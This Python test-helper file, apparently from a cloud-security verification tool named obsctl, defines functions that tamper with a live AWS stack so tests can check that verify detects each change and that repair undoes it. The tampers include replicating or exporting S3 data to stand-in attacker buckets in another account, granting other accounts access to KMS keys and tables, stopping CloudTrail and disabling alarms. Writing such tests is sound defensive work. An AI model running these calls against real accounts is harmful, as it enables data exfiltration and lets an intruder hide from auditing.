"""Changes an attacker or a careless admin makes straight through the AWS API, one function
each: it tampers with a live stack and returns the (control, resource) pairs verify must fail.

Used by test_verify_tampers.py, which applies many on distinct resources at once, verifies,
lets `obsctl up`'s apply-and-repair run and verifies again.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from typing import Any

from obsctl.model.contract import StackContract

Pairs = set[tuple[str, str]]
Aws = Callable[[str], Any]
Tamper = Callable[[Aws, StackContract], Pairs]
OTHER = "210987654321"  # another account


def bucket(c: StackContract, app: str, store: str) -> str:
    return c.buckets[app][store].name


def _policy(aws: Aws, name: str) -> dict[str, Any]:
    return json.loads(aws("s3").get_bucket_policy(Bucket=name)["Policy"])


def _put_policy(aws: Aws, name: str, policy: dict[str, Any]) -> None:
    aws("s3").put_bucket_policy(Bucket=name, Policy=json.dumps(policy))


def _rewrite_lifecycle(aws: Aws, name: str, change: Callable[[list[dict]], list[dict]]) -> None:
    s3 = aws("s3")
    rules = s3.get_bucket_lifecycle_configuration(Bucket=name)["Rules"]
    s3.put_bucket_lifecycle_configuration(
        Bucket=name, LifecycleConfiguration={"Rules": change(copy.deepcopy(rules))}
    )


def _add_statement(aws: Aws, role: str, statement: dict[str, Any], policy: str) -> None:
    iam = aws("iam")
    document = iam.get_role_policy(RoleName=role, PolicyName=policy)["PolicyDocument"]
    document["Statement"].append(statement)
    iam.put_role_policy(RoleName=role, PolicyName=policy, PolicyDocument=json.dumps(document))


def _grant_role(aws: Aws, role: str, statement: dict[str, Any]) -> None:
    _add_statement(aws, role, statement, "object-storage")


# -- buckets: data copied or sent elsewhere --------------------------------------------------


def replication_to_another_account(aws: Aws, c: StackContract) -> Pairs:
    name = bucket(c, "mimir", "blocks")
    aws("s3").put_bucket_replication(
        Bucket=name,
        ReplicationConfiguration={
            "Role": f"arn:aws:iam::{c.account_id}:role/replicator",
            "Rules": [
                {
                    "ID": "exfil",
                    "Priority": 1,
                    "Status": "Enabled",
                    "Filter": {"Prefix": ""},
                    "DeleteMarkerReplication": {"Status": "Disabled"},
                    "Destination": {"Bucket": "arn:aws:s3:::attacker-bucket", "Account": OTHER},
                }
            ],
        },
    )
    return {("s3.replication", name)}


def inventory_to_another_account(aws: Aws, c: StackContract) -> Pairs:
    name = bucket(c, "mimir", "ruler")
    aws("s3").put_bucket_inventory_configuration(
        Bucket=name,
        Id="exfil-inventory",
        InventoryConfiguration={
            "Id": "exfil-inventory",
            "IsEnabled": True,
            "IncludedObjectVersions": "All",
            "Schedule": {"Frequency": "Daily"},
            "Destination": {
                "S3BucketDestination": {
                    "AccountId": OTHER,
                    "Bucket": "arn:aws:s3:::attacker-inventory",
                    "Format": "CSV",
                }
            },
        },
    )
    return {("s3.exports", name)}


def analytics_export_to_another_account(aws: Aws, c: StackContract) -> Pairs:
    name = bucket(c, "loki", "chunks")
    aws("s3").put_bucket_analytics_configuration(
        Bucket=name,
        Id="exfil-analytics",
        AnalyticsConfiguration={
            "Id": "exfil-analytics",
            "StorageClassAnalysis": {
                "DataExport": {
                    "OutputSchemaVersion": "V_1",
                    "Destination": {
                        "S3BucketDestination": {
                            "Format": "CSV",
                            "BucketAccountId": OTHER,
                            "Bucket": "arn:aws:s3:::attacker-analytics",
                        }
                    },
                }
            },
        },
    )
    return {("s3.exports", name)}


def notifications_to_another_account(aws: Aws, c: StackContract) -> Pairs:
    name = bucket(c, "mimir", "alertmanager")
    aws("s3").put_bucket_notification_configuration(
        Bucket=name,
        NotificationConfiguration={
            "QueueConfigurations": [
                {
                    "QueueArn": f"arn:aws:sqs:{c.region}:{OTHER}:exfil",
                    "Events": ["s3:ObjectCreated:*"],
                }
            ]
        },
    )
    return {("s3.notifications", name)}


def transfer_acceleration_on(aws: Aws, c: StackContract) -> Pairs:
    name = bucket(c, "loki", "ruler")
    aws("s3").put_bucket_accelerate_configuration(
        Bucket=name, AccelerateConfiguration={"Status": "Enabled"}
    )
    return {("s3.acceleration", name)}


def website_hosting_on(aws: Aws, c: StackContract) -> Pairs:
    name = bucket(c, "tempo", "traces")
    aws("s3").put_bucket_website(
        Bucket=name, WebsiteConfiguration={"IndexDocument": {"Suffix": "index.html"}}
    )
    return {("s3.website", name)}


def cors_for_every_origin(aws: Aws, c: StackContract) -> Pairs:
    name = bucket(c, "mimir", "blocks")
    aws("s3").put_bucket_cors(
        Bucket=name,
        CORSConfiguration={"CORSRules": [{"AllowedMethods": ["GET"], "AllowedOrigins": ["*"]}]},
    )
    return {("s3.cors", name)}


def acl_public_read(aws: Aws, c: StackContract) -> Pairs:
    # S3 refuses any ACL while the owner is enforced (AccessControlListNotSupported), so ACLs
    # are turned back on first, as they would have to be on AWS.
    name = bucket(c, "mimir", "ruler")
    aws("s3").put_bucket_ownership_controls(
        Bucket=name, OwnershipControls={"Rules": [{"ObjectOwnership": "ObjectWriter"}]}
    )
    aws("s3").put_bucket_acl(Bucket=name, ACL="public-read")
    return {("s3.acl", name), ("s3.ownership", name)}


def bucket_policy_for_another_account(aws: Aws, c: StackContract) -> Pairs:
    name = bucket(c, "mimir", "alertmanager")
    arn = c.buckets["mimir"]["alertmanager"].arn
    policy = _policy(aws, name)
    policy["Statement"].append(
        {
            "Sid": "Exfil",
            "Effect": "Allow",
            "Principal": {"AWS": f"arn:aws:iam::{OTHER}:root"},
            "Action": "s3:GetObject",
            "Resource": f"{arn}/*",
        }
    )
    _put_policy(aws, name, policy)
    return {("s3.external-access", name), ("drift.policies", name)}


def bucket_policy_gives_grafana_lokis_chunks(aws: Aws, c: StackContract) -> Pairs:
    name, arn = bucket(c, "loki", "chunks"), c.buckets["loki"]["chunks"].arn
    policy = _policy(aws, name)
    policy["Statement"].append(
        {
            "Sid": "GrafanaReadsChunks",
            "Effect": "Allow",
            "Principal": {"AWS": c.roles["grafana"].arn},
            "Action": ["s3:GetObject", "s3:ListBucket"],
            "Resource": [arn, f"{arn}/*"],
        }
    )
    _put_policy(aws, name, policy)
    return {("iam.no-cross-app-access", c.roles["grafana"].name), ("drift.policies", name)}


def tls_deny_neutered_by_a_condition(aws: Aws, c: StackContract) -> Pairs:
    name = bucket(c, "loki", "ruler")
    policy = _policy(aws, name)
    for statement in policy["Statement"]:
        if statement.get("Sid") == "DenyInsecureTransport":
            statement["Condition"]["StringNotEquals"] = {"aws:PrincipalAccount": OTHER}
    _put_policy(aws, name, policy)
    return {("s3.tls-only", name), ("drift.policies", name)}


# -- buckets: data locked, made unreadable, or deleted ---------------------------------------


def lifecycle_moves_loki_chunks_to_glacier(aws: Aws, c: StackContract) -> Pairs:
    name = bucket(c, "loki", "chunks")

    def add(rules: list[dict]) -> list[dict]:
        return [
            *rules,
            {
                "ID": "to-glacier",
                "Status": "Enabled",
                "Filter": {"Prefix": "fake/"},
                "Transitions": [{"Days": 30, "StorageClass": "GLACIER"}],
            },
        ]

    _rewrite_lifecycle(aws, name, add)
    return {("s3.readable-storage-class", name), ("drift.lifecycle", name)}


def intelligent_tiering_archive(aws: Aws, c: StackContract) -> Pairs:
    name = bucket(c, "tempo", "traces")
    aws("s3").put_bucket_intelligent_tiering_configuration(
        Bucket=name,
        Id="archive",
        IntelligentTieringConfiguration={
            "Id": "archive",
            "Status": "Enabled",
            "Tierings": [{"Days": 90, "AccessTier": "ARCHIVE_ACCESS"}],
        },
    )
    return {("s3.readable-storage-class", name)}


def lifecycle_expires_lokis_index(aws: Aws, c: StackContract) -> Pairs:
    name = bucket(c, "loki", "chunks")

    def add(rules: list[dict]) -> list[dict]:
        return [
            *rules,
            {
                "ID": "expire-index",
                "Status": "Enabled",
                "Filter": {"Prefix": "index/index_"},
                "Expiration": {"Days": 400},
            },
        ]

    _rewrite_lifecycle(aws, name, add)
    return {("s3.safe-expiry", name), ("drift.lifecycle", name)}


def noncurrent_expiry_removed(aws: Aws, c: StackContract) -> Pairs:
    name = bucket(c, "mimir", "ruler")

    def drop(rules: list[dict]) -> list[dict]:
        for rule in rules:
            rule.pop("NoncurrentVersionExpiration", None)
        return rules

    _rewrite_lifecycle(aws, name, drop)
    return {("s3.noncurrent-expiry", name), ("drift.lifecycle", name)}


def object_lock_compliance_ten_years(aws: Aws, c: StackContract) -> Pairs:
    name = bucket(c, "mimir", "alertmanager")  # empty: moto locks only empty buckets
    aws("s3").put_object_lock_configuration(
        Bucket=name,
        ObjectLockConfiguration={
            "ObjectLockEnabled": "Enabled",
            "Rule": {"DefaultRetention": {"Mode": "COMPLIANCE", "Years": 10}},
        },
    )
    return {("s3.object-lock", name)}


def access_point_on_a_bucket(aws: Aws, c: StackContract) -> Pairs:
    name = bucket(c, "tempo", "traces")
    aws("s3control").create_access_point(AccountId=c.account_id, Name="exfil-ap", Bucket=name)
    return {("s3.access-points", name)}


def account_public_access_block_off(aws: Aws, c: StackContract) -> Pairs:
    aws("s3control").put_public_access_block(
        AccountId=c.account_id,
        PublicAccessBlockConfiguration=dict.fromkeys(
            ("BlockPublicAcls", "IgnorePublicAcls", "BlockPublicPolicy", "RestrictPublicBuckets"),
            False,
        ),
    )
    return {("account.public-access-block", c.account_id)}


# -- keys ------------------------------------------------------------------------------------


def key_grant_to_another_account(aws: Aws, c: StackContract) -> Pairs:
    key = c.kms_keys["mimir"].arn
    aws("kms").create_grant(
        KeyId=key,
        GranteePrincipal=f"arn:aws:iam::{OTHER}:root",
        Operations=["Decrypt", "GenerateDataKey", "CreateGrant"],
    )
    return {("kms.grants", key)}


def key_policy_star_for_another_account(aws: Aws, c: StackContract) -> Pairs:
    kms, key = aws("kms"), c.kms_keys["loki"].arn
    policy = json.loads(kms.get_key_policy(KeyId=key, PolicyName="default")["Policy"])
    policy["Statement"].append(
        {
            "Sid": "OpenToThem",
            "Effect": "Allow",
            "Principal": {"AWS": "*"},
            "Action": ["kms:Decrypt", "kms:CreateGrant"],
            "Resource": "*",
            "Condition": {"StringEquals": {"kms:CallerAccount": OTHER}},
        }
    )
    kms.put_key_policy(KeyId=key, PolicyName="default", Policy=json.dumps(policy))
    return {("kms.external-access", key), ("drift.policies", key)}


def alias_points_at_another_key(aws: Aws, c: StackContract) -> Pairs:
    tempo, mimir = c.kms_keys["tempo"], c.kms_keys["mimir"]
    aws("kms").update_alias(AliasName=tempo.alias, TargetKeyId=mimir.arn)
    return {("kms.alias", tempo.arn)}


# -- roles -----------------------------------------------------------------------------------


def policy_variable_reaches_every_bucket(aws: Aws, c: StackContract) -> Pairs:
    role = c.roles["loki"].name
    _grant_role(
        aws,
        role,
        {
            "Sid": "ByTag",
            "Effect": "Allow",
            "Action": "s3:GetObject",
            "Resource": "arn:aws:s3:::${aws:PrincipalTag/bucket}/*",
        },
    )
    return {("iam.no-cross-app-access", role), ("drift.policies", role)}


def replication_rights_on_another_apps_bucket(aws: Aws, c: StackContract) -> Pairs:
    role = c.roles["tempo"].name
    _grant_role(
        aws,
        role,
        {
            "Sid": "Replicate",
            "Effect": "Allow",
            "Action": ["s3:PutReplicationConfiguration", "kms:DisableKeyRotation"],
            "Resource": [c.buckets["mimir"]["blocks"].arn, c.kms_keys["mimir"].arn],
        },
    )
    return {("iam.no-cross-app-access", role), ("drift.policies", role)}


def role_may_rewrite_its_own_policy(aws: Aws, c: StackContract) -> Pairs:
    role = c.roles["mimir"]
    _grant_role(
        aws,
        role.name,
        {"Sid": "Self", "Effect": "Allow", "Action": "iam:PutRolePolicy", "Resource": role.arn},
    )
    return {("iam.self-modification", role.name), ("drift.policies", role.name)}


def trust_admits_the_default_service_account(aws: Aws, c: StackContract) -> Pairs:
    iam, role = aws("iam"), c.roles["grafana"].name
    document = iam.get_role(RoleName=role)["Role"]["AssumeRolePolicyDocument"]
    equals = document["Statement"][0]["Condition"]["StringEquals"]
    sub = next(key for key in equals if key.endswith(":sub"))
    current = equals[sub] if isinstance(equals[sub], list) else [equals[sub]]
    equals[sub] = [*current, "system:serviceaccount:grafana:default"]
    iam.update_assume_role_policy(RoleName=role, PolicyDocument=json.dumps(document))
    return {("iam.trust-subjects", role), ("drift.policies", role)}


def trust_admits_another_account(aws: Aws, c: StackContract) -> Pairs:
    iam, role = aws("iam"), c.roles["loki"].name
    document = iam.get_role(RoleName=role)["Role"]["AssumeRolePolicyDocument"]
    document["Statement"].append(
        {
            "Sid": "Them",
            "Effect": "Allow",
            "Principal": {"AWS": f"arn:aws:iam::{OTHER}:root"},
            "Action": "sts:AssumeRole",
        }
    )
    iam.update_assume_role_policy(RoleName=role, PolicyDocument=json.dumps(document))
    return {("iam.trust-principal", role), ("iam.trust-subjects", role), ("drift.policies", role)}


def tempo_loses_put_object(aws: Aws, c: StackContract) -> Pairs:
    iam, role = aws("iam"), c.roles["tempo"].name
    document = iam.get_role_policy(RoleName=role, PolicyName="object-storage")["PolicyDocument"]
    for statement in document["Statement"]:
        if statement.get("Sid") == "ReadWriteObjects":
            statement["Action"] = [a for a in statement["Action"] if a != "s3:PutObject"]
    iam.put_role_policy(
        RoleName=role, PolicyName="object-storage", PolicyDocument=json.dumps(document)
    )
    return {("iam.required-access", role), ("drift.policies", role)}


def session_limit_raised(aws: Aws, c: StackContract) -> Pairs:
    role = c.roles["grafana"].name
    aws("iam").update_role(RoleName=role, MaxSessionDuration=43200)
    return {("drift.settings", role)}


# -- tables (prod, with the legacy tables on) ------------------------------------------------


def table_policy_for_another_account(aws: Aws, c: StackContract) -> Pairs:
    table = c.tables["loki"][0]
    aws("dynamodb").put_resource_policy(
        ResourceArn=table.arn,
        Policy=json.dumps(
            {
                "Version": "2012-10-17",
                "Statement": [
                    {
                        "Effect": "Allow",
                        "Principal": {"AWS": f"arn:aws:iam::{OTHER}:root"},
                        "Action": ["dynamodb:Scan", "dynamodb:Query", "dynamodb:GetItem"],
                        "Resource": table.arn,
                    }
                ],
            }
        ),
    )
    return {("dynamodb.resource-policy", table.name)}


def table_stream_on(aws: Aws, c: StackContract) -> Pairs:
    table = c.tables["mimir"][0].name
    aws("dynamodb").update_table(
        TableName=table,
        StreamSpecification={"StreamEnabled": True, "StreamViewType": "NEW_AND_OLD_IMAGES"},
    )
    return {("dynamodb.copies", table)}


def table_kinesis_destination(aws: Aws, c: StackContract) -> Pairs:
    table = c.tables["loki"][0].name
    aws("dynamodb").enable_kinesis_streaming_destination(
        TableName=table, StreamArn=f"arn:aws:kinesis:{c.region}:{OTHER}:stream/exfil"
    )
    return {("dynamodb.copies", table)}


def table_ttl_on(aws: Aws, c: StackContract) -> Pairs:
    table = c.tables["mimir"][0].name
    aws("dynamodb").update_time_to_live(
        TableName=table, TimeToLiveSpecification={"Enabled": True, "AttributeName": "expires"}
    )
    return {("dynamodb.ttl", table)}


def table_billing_mode_switched(aws: Aws, c: StackContract) -> Pairs:
    table = c.tables["loki"][0].name
    aws("dynamodb").update_table(
        TableName=table,
        BillingMode="PROVISIONED",
        ProvisionedThroughput={"ReadCapacityUnits": 1, "WriteCapacityUnits": 1},
    )
    return {("dynamodb.billing-mode", table)}


def table_on_the_aws_owned_key(aws: Aws, c: StackContract) -> Pairs:
    table = c.tables["mimir"][0].name
    aws("dynamodb").update_table(TableName=table, SSESpecification={"Enabled": False})
    return {("dynamodb.cmk-encryption", table)}


def table_on_another_apps_key(aws: Aws, c: StackContract) -> Pairs:
    table = c.tables["loki"][-1].name
    key = c.kms_keys["mimir"].arn
    aws("dynamodb").update_table(
        TableName=table,
        SSESpecification={"Enabled": True, "SSEType": "KMS", "KMSMasterKeyId": key},
    )
    return {("dynamodb.cmk-encryption", table)}


def loki_may_update_its_tables(aws: Aws, c: StackContract) -> Pairs:
    role = c.roles["loki"].name
    _add_statement(
        aws,
        role,
        {
            "Sid": "Tables",
            "Effect": "Allow",
            "Action": "dynamodb:UpdateTable",
            "Resource": [table.arn for table in c.tables["loki"]],
        },
        "dynamodb-index-tables",
    )
    return {("iam.self-modification", role), ("drift.policies", role)}


# -- the audit trail, alert topic and alarms (prod) ------------------------------------------


def _trail(c: StackContract) -> str:
    return str(c.operations["audit_trail_arn"])


def trail_stopped(aws: Aws, c: StackContract) -> Pairs:
    aws("cloudtrail").stop_logging(Name=_trail(c))
    return {("cloudtrail.logging", _trail(c))}


def trail_selectors_narrowed(aws: Aws, c: StackContract) -> Pairs:
    one = c.buckets["tempo"]["traces"].arn
    aws("cloudtrail").put_event_selectors(
        TrailName=_trail(c),
        EventSelectors=[
            {
                "ReadWriteType": "WriteOnly",
                "IncludeManagementEvents": False,
                "DataResources": [{"Type": "AWS::S3::Object", "Values": [f"{one}/"]}],
            }
        ],
    )
    return {("cloudtrail.coverage", _trail(c))}


def trail_validation_and_encryption_off(aws: Aws, c: StackContract) -> Pairs:
    aws("cloudtrail").update_trail(Name=_trail(c), EnableLogFileValidation=False, KmsKeyId="")
    return {("cloudtrail.log-validation", _trail(c)), ("cloudtrail.encryption", _trail(c))}


def trail_sent_elsewhere_in_one_region(aws: Aws, c: StackContract) -> Pairs:
    aws("cloudtrail").update_trail(
        Name=_trail(c),
        S3BucketName=str(c.settings["access_log_bucket"]),
        IsMultiRegionTrail=False,
    )
    return {("cloudtrail.destination", _trail(c)), ("cloudtrail.coverage", _trail(c))}


def audit_bucket_logging_off(aws: Aws, c: StackContract) -> Pairs:
    name = str(c.operations["audit_bucket"])
    aws("s3").put_bucket_logging(Bucket=name, BucketLoggingStatus={})
    return {("s3.access-logging", name)}


def topic_open_to_everyone(aws: Aws, c: StackContract) -> Pairs:
    topic = str(c.operations["alert_topic_arn"])
    aws("sns").set_topic_attributes(
        TopicArn=topic,
        AttributeName="Policy",
        AttributeValue=json.dumps(
            {
                "Version": "2012-10-17",
                "Statement": [
                    {
                        "Sid": "Everyone",
                        "Effect": "Allow",
                        "Principal": "*",
                        "Action": ["sns:Subscribe", "sns:Publish"],
                        "Resource": topic,
                    }
                ],
            }
        ),
    )
    return {("sns.external-access", topic)}


def topic_encryption_removed(aws: Aws, c: StackContract) -> Pairs:
    topic = str(c.operations["alert_topic_arn"])
    aws("sns").set_topic_attributes(
        TopicArn=topic, AttributeName="KmsMasterKeyId", AttributeValue=""
    )
    return {("sns.encryption", topic)}


def topic_subscribed_by_another_account(aws: Aws, c: StackContract) -> Pairs:
    topic = str(c.operations["alert_topic_arn"])
    aws("sns").subscribe(
        TopicArn=topic, Protocol="sqs", Endpoint=f"arn:aws:sqs:{c.region}:{OTHER}:alerts"
    )
    return {("sns.subscriptions", topic)}


def alarm_actions_disabled(aws: Aws, c: StackContract) -> Pairs:
    alarm = str(c.operations["alarm_names"][0])
    aws("cloudwatch").disable_alarm_actions(AlarmNames=[alarm])
    return {("cloudwatch.alarm-actions", alarm)}
